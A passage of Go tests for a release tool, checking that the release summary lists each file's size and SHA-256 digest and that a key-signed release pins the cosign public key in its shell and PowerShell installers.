		layout.SumsBundle + ": is signed with a key and carries no certificate",
		"--key dist/" + layout.SnapshotKey,
	} {
		if !strings.Contains(err.Error(), w) {
			t.Errorf("the refusal does not say %q:\n%v", w, err)
		}
	}
	if strings.Contains(err.Error(), "trusted root") {
		t.Errorf("verify went for a trusted root it cannot use:\n%v", err)
	}
}

// The summary's rows for SHA256SUMS and its signature, written last, give
// their real size and digest like every other file.
func TestSummaryGivesEveryFilesSizeAndDigest(t *testing.T) {
	repo := newRepo(t)
	log, err := runRelease(t, repo, Options{Snapshot: true})
	if err != nil {
		t.Fatalf("release: %v\n%s", err, log)
	}
	dir := layout.ReleaseDir(repo)
	for _, name := range []string{layout.Sums, layout.SumsBundle, layout.Manifest} {
		sum, _, err := fileutil.SHA256File(filepath.Join(dir, name))
		if err != nil {
			t.Fatal(err)
		}
		var row string
		for _, line := range strings.Split(log, "\n") {
			if f := strings.Fields(line); len(f) > 0 && f[0] == name {
				row = line
			}
		}
		if row == "" || strings.Contains(row, " 0 B ") || !strings.Contains(row, sum[:12]) {
			t.Errorf("the summary's row for %s is %q, want its size and sha256 %.12s\n%s", name, row, sum, log)
		}
	}
}

// A release signed with a cosign key pins the key's public half in both
// installers; a snapshot's throw-away key is never pinned.
func TestReleasePinsTheSigningKeyInTheInstallers(t *testing.T) {
	privPEM, pubPEM, err := sign.GenerateCosignKey([]byte("pw"))
	if err != nil {
		t.Fatal(err)
	}
	dir := mustRelease(t, newRepo(t), Options{Snapshot: true, Sign: sign.Options{Key: string(privPEM), Password: []byte("pw")}})
	pub := strings.TrimSpace(string(pubPEM))
	for name, line := range map[string]string{
		"install.sh":  "\nPUBLIC_KEY_PEM='" + pub + "'\n",
		"install.ps1": "\n$PublicKeyPem = '" + pub + "'\n",
	} {
		if !strings.Contains(readFile(t, filepath.Join(dir, name)), line) {
			t.Errorf("the published %s does not pin the signing key (%q)", name, line)
		}
	}
	key, err := cryptoutils.UnmarshalPEMToPublicKey(pubPEM)
	if err != nil {
		t.Fatal(err)
	}
	if err := verify.Release(dir, verify.Options{Config: cfg(t), PublicKey: key}); err != nil {
		t.Fatalf("verify refused a release whose installers pin its key: %v", err)
	}

	snap := mustRelease(t, newRepo(t), Options{Snapshot: true})
	if !strings.Contains(readFile(t, filepath.Join(snap, "install.sh")), "\nPUBLIC_KEY_PEM=''\n") {
		t.Errorf("a snapshot's install.sh pins its throw-away key")
	}
}
